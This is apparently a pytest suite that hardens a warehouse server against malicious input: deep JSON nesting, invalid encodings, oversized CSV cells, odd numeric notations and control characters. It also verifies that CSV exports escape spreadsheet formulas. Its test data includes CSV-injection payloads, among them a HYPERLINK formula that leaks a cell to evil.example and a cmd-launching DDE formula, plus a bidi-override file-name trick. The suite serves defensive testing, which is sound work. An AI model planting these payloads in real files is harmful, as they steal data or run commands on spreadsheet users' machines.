"""Input an attacker (or a confused spreadsheet) sends, through HTTP: JSON nested beyond any recursion limit, bytes
that are not UTF-8, a CSV cell over 128 KB, numbers in other notations and scripts, invisible control characters in
names; each is a 4xx with its own code and no traceback in the server's log. And what we send back: no exported
cell starts a formula in a spreadsheet, and an export still imports back unchanged."""

from __future__ import annotations

import csv
import io
import time
import uuid

import anyio
import httpx
import pytest

from server.spreadsheets import Deadline, UploadRefused, parse_upload
from tests.clients import anonymous
from tests.factory import count_in, make_item, on_hand
from tests.system.test_errors import field_refusal, refusal


def nested(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


@pytest.fixture
def server_log(server):
    """What the server logs during the test: no refusal here may be a 500 with its traceback."""
    start = len(server.log_text())
    yield lambda: server.log_text()[start:]


def assert_no_traceback(log: str) -> None:
    assert "Traceback" not in log and "internal error" not in log, log[-3000:]


def post_raw(client: httpx.Client, path: str, body: bytes, **headers: str) -> httpx.Response:
    return client.post(path, content=body, headers={"content-type": "application/json", **headers})


def test_json_nested_100000_deep_is_invalid_json_everywhere_even_unauthenticated(server, admin, device, server_log):
    guest = anonymous(server.url)
    token = {"authorization": f"Bearer {device.token}"}
    for depth in (100_000, 800, 40):
        refusal(post_raw(admin, "/api/units", nested(depth)), 400, "invalid_json")
        refusal(post_raw(guest, "/api/sync/enroll", nested(depth)), 400, "invalid_json")
        refusal(post_raw(guest, "/api/auth/login", nested(depth)), 400, "invalid_json")
        refusal(post_raw(guest, "/api/sync/push", nested(depth), **token), 400, "invalid_json")
    deep_args = b'{"protocol": 1, "mutations": [{"seq": 1, "id": "%s", "name": "stock.move", "args": %s}]}' % (
        str(uuid.uuid4()).encode(), nested(500))
    refusal(post_raw(guest, "/api/sync/push", deep_args, **token), 400, "invalid_json")
    guest.close()
    assert server.process.poll() is None
    assert_no_traceback(server_log())


def test_a_body_that_is_not_utf8_is_invalid_encoding(server, admin, server_log):
    guest = anonymous(server.url)
    refusal(post_raw(admin, "/api/units", b'{"code": "ENC", "name": "caf\xe9"}'), 400, "invalid_encoding")
    refusal(post_raw(guest, "/api/sync/enroll", b'{"code": "abcdef", "device_name": "\xff\xfe"}'), 400, "invalid_encoding")
    refusal(post_raw(guest, "/api/auth/login", b'{"username": "admin\xc3", "password": "x"}'), 400, "invalid_encoding")
    form = guest.post("/login", content=b"username=\xff&password=\xfe",
                      headers={"content-type": "application/x-www-form-urlencoded"})
    assert 400 <= form.status_code < 500, form.text
    guest.close()
    assert admin.get("/api/units/ENC").status_code == 404
    assert_no_traceback(server_log())


def test_a_master_data_csv_field_over_128_kb_is_field_too_large_and_writes_nothing(admin, unique, server_log):
    code = unique("HUGE")
    text = f"code,name,description\n{code},Wheel,{'x' * (128 * 1024 + 1)}\n"
    refused = admin.post("/api/csv/items", files={"data": ("items.csv", text.encode(), "text/csv")})
    body = refusal(refused, 413, "field_too_large")
    assert body["details"]["row"] == 2
    assert admin.get(f"/api/items/{code}").status_code == 404
    assert_no_traceback(server_log())


@pytest.mark.parametrize("quantity", ["1_000", "١٠", "1e3", "１０", "NaN"])
def test_a_quantity_that_is_not_ascii_decimal_notation_is_refused_at_the_desk_on_the_floor_and_in_a_csv(
        login, device, new_item, unique, quantity):
    clerk = login("warehouse")
    item = new_item("ASCII")
    count_in(clerk, item, "RM-A-01-01", "2000")
    move = {"item": item, "from_location": "RM-A-01-01", "to_location": "RM-A-01-02", "quantity": quantity}
    field_refusal(clerk.post("/api/stock/moves", json=move), "invalid_format", "quantity")
    mutation = device.enqueue("stock.move", move)
    device.push_once()
    result = device.result(mutation)
    assert result["status"] == "rejected" and result["error"]["code"] == "invalid_args", result
    assert on_hand(clerk, item) == [("RM-A-01-01", None, "available", "2000")]

    admin = login("admin")
    code = unique("CSVQ")
    text = f"code,name,type,unit,safety_stock\n{code},Wheel,raw,PCS,{quantity}\n"
    refused = admin.post("/api/csv/items", files={"data": ("items.csv", text.encode(), "text/csv")})
    body = refusal(refused, 422, "csv_invalid")
    assert [(e["row"], e["field"], e["code"]) for e in body["details"]["errors"]] == [(2, "safety_stock", "invalid_format")]


def test_plain_decimal_strings_and_json_numbers_still_move_stock(login, new_item):
    clerk = login("warehouse")
    item = new_item("PLAIN")
    count_in(clerk, item, "RM-A-01-01", "20")
    for quantity in ("5", 3, "2.0"):
        moved = clerk.post("/api/stock/moves", json={"item": item, "from_location": "RM-A-01-01",
                                                     "to_location": "RM-A-01-02", "quantity": quantity})
        assert moved.status_code == 201, moved.text
    assert sorted(on_hand(clerk, item)) == [("RM-A-01-01", None, "available", "10"), ("RM-A-01-02", None, "available", "10")]


@pytest.mark.parametrize("text", ["Caster\x85wheel", "\x9bwheel", "invoice\u202eexe.txt", "a\u2066b\u2069", "two\nlines",
                                  "tab\there"])
def test_names_with_c1_controls_bidi_overrides_or_line_breaks_are_control_character(admin, unique, text):
    field_refusal(admin.post("/api/units", json={"code": unique("CC"), "name": text}), "control_character", "name")
    field_refusal(admin.post("/api/customers", json={"code": unique("CC"), "name": "Ningbo", "currency": "CNY",
                                                     "contacts": [{"name": "Li", "role": text}]}),
                  "control_character", "contacts.0.role")


def test_chinese_emoji_punctuation_and_multiline_free_text_are_kept(admin, unique):
    code = unique("ZH")
    name = "宁波轴承（二厂）— “快速” 😀 #1, 50% & <ok>!"
    created = admin.post("/api/sites", json={"code": code, "name": name, "timezone": "Asia/Shanghai",
                                             "address": "8 Harbour Rd\r\nNingbo\t315000"})
    assert created.status_code == 201, created.text
    site = admin.get(f"/api/sites/{code}").json()
    assert (site["name"], site["address"]) == (name, "8 Harbour Rd\r\nNingbo\t315000")
    field_refusal(admin.post("/api/sites", json={"code": unique("ZH"), "name": "Site", "timezone": "Asia/Shanghai",
                                                "address": "8 Harbour\u202e Rd"}),
                  "control_character", "address")


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "＝1+1", "\t=1+1", "\r=1+1"]


def test_no_exported_cell_starts_a_formula_and_the_export_imports_back_unchanged(admin, unique):
    suffix = unique("F")
    codes = {f"F{index}-{suffix}": formula for index, formula in enumerate(FORMULAS)}
    codes[f"NEG-{suffix}"] = "-5"  # a number, not a formula: stays as it is
    for code, name in codes.items():
        # Names are one line: the tab and CR forms reach a spreadsheet only through the multi-line description.
        one_line = name.lstrip("\t\r")
        created = admin.post("/api/units", json={"code": code, "name": one_line, "decimals": 0})
        assert created.status_code == 201, created.text
    item = unique("FX")
    make_item(admin, item, name="=1+1", description="\t=HYPERLINK(\"x\")")

    exported = admin.get("/api/csv/units")
    assert exported.status_code == 200
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(exported.text)) if row["code"] in codes}
    for code, name in codes.items():
        shown = rows[code]["name"]
        if name == "-5":
            assert shown == "-5"
        else:
            assert shown.startswith("'") and shown[1:] == name.lstrip("\t\r"), (code, shown)
    items = {row["code"]: row for row in csv.DictReader(io.StringIO(admin.get("/api/csv/items").text))}
    assert (items[item]["name"], items[item]["description"]) == ("'=1+1", "'\t=HYPERLINK(\"x\")")
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r", "＝")) for row in rows.values() for cell in row.values())

    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(next(iter(rows.values()))), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows.values())
    reimported = admin.post("/api/csv/units", files={"data": ("units.csv", out.getvalue().encode(), "text/csv")})
    assert reimported.status_code == 200, reimported.text
    assert reimported.json()["updated"] == 0, "the apostrophes came off again: nothing changed"
    assert admin.get(f"/api/units/F0-{suffix}").json()["name"] == FORMULAS[0]


def test_a_parse_past_its_time_is_upload_too_complex_and_its_thread_stops():
    rows_read = []

    def endless(deadline: Deadline) -> None:
        while True:
            deadline.check()
            rows_read.append(1)

    started = time.monotonic()
    with pytest.raises(UploadRefused) as refused:
        anyio.run(lambda: parse_upload(endless, seconds=0.3))
    assert refused.value.code == "upload_too_complex" and refused.value.status_code == 422
    assert time.monotonic() - started < 2
    count = len(rows_read)
    time.sleep(0.2)
    assert len(rows_read) == count, "the thread stopped at its next row"
